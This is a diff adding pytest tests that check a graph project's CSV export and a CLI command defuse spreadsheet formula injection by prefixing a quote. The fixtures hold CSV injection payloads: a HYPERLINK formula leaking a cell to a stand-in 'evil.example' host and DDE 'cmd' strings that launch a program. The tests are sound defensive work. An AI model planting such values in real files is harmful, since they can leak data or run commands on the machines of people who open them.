@@ -278,6 +278,44 @@ def test_csv_cells_carry_coverage_dates_and_accents(g: PartnershipGraph, tmp_pat
     assert by_id[CEJ]["start"] == ""
     assert by_id[CTG]["population"] == ""
     assert "commune:99999" not in by_id
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_open_as_text(
+    g: PartnershipGraph, tmp_path: Path
+) -> None:
+    # a partner renamed through the curation API, and extra values of every kind
+    g.nodes[CAF]["label"] = '=HYPERLINK("https://evil.example/?leak="&A1,"Caf du Cantal")'
+    extra: dict[str, dict[str, Any]] = {
+        SAINT_FLOUR: {"note": "@SUM(A1:A9)", "balance": -3, "phone": "+33 4 71 60 00 00"},
+        NEUVEGLISE: {"note": "-2+3+cmd|' /C calc'!A0", "balance": -1.5, "phone": "\t=1+1"},
+        VEDRINES: {"note": "\r=1+1", "balance": 2, "phone": "-"},
+    }
+    nodes_path, _ = export(g, tmp_path, "csv", node_attributes=extra)
+    _, rows = read_csv(nodes_path)
+    by_id = {row["Id"]: row for row in rows}
+
+    # what a spreadsheet shows: the text, after a quote that stops it being a formula
+    assert by_id[CAF]["Label"] == "'" + g.nodes[CAF]["label"]
+    assert by_id[SAINT_FLOUR]["note"] == "'@SUM(A1:A9)"
+    assert by_id[NEUVEGLISE]["note"] == "'-2+3+cmd|' /C calc'!A0"
+    assert by_id[VEDRINES]["note"] == "'\r=1+1"
+    assert by_id[SAINT_FLOUR]["phone"] == "'+33 4 71 60 00 00"
+    assert by_id[NEUVEGLISE]["phone"] == "'\t=1+1"
+    assert by_id[VEDRINES]["phone"] == "'-"
+    # numbers stay numbers, ordinary text stays as it was
+    assert [by_id[n]["balance"] for n in (SAINT_FLOUR, NEUVEGLISE, VEDRINES)] == [
+        "-3.0",
+        "-1.5",
+        "2.0",
+    ]
+    assert by_id[SAINT_FLOUR]["Label"] == "Saint-Flour"
+    assert len(rows) == g.number_of_nodes()  # a carriage return in a cell starts no row
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        and not cell.lstrip("+-").replace(".", "", 1).isdigit()
+        for row in rows
+        for cell in row.values()
+    )
     assert nodes_path.read_bytes().startswith(b"Id,")  # UTF-8 without BOM
 
 
@@ -442,3 +480,15 @@ def test_an_export_gets_the_usual_file_mode(g: PartnershipGraph, tmp_path: Path)
 
 def test_doctests_hold() -> None:
     assert doctest.testmod(analyses.exports).failed == 0
+
+
+def test_the_csv_of_an_analysis_command_opens_no_formula_either(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    from cli.analyses import Output, _emit  # pyright: ignore[reportPrivateUsage]
+
+    rows = [{"partner": "=cmd|' /C calc'!A0", "share": -0.5, "themes": ["+x", "jeunesse"]}]
+    _emit(rows, Output.CSV, "coverage", {})
+    [header, row] = list(csv.reader(capsys.readouterr().out.splitlines()))
+    assert header == ["partner", "share", "themes"]
+    assert row == ["'=cmd|' /C calc'!A0", "-0.5", "'+x;jeunesse"]
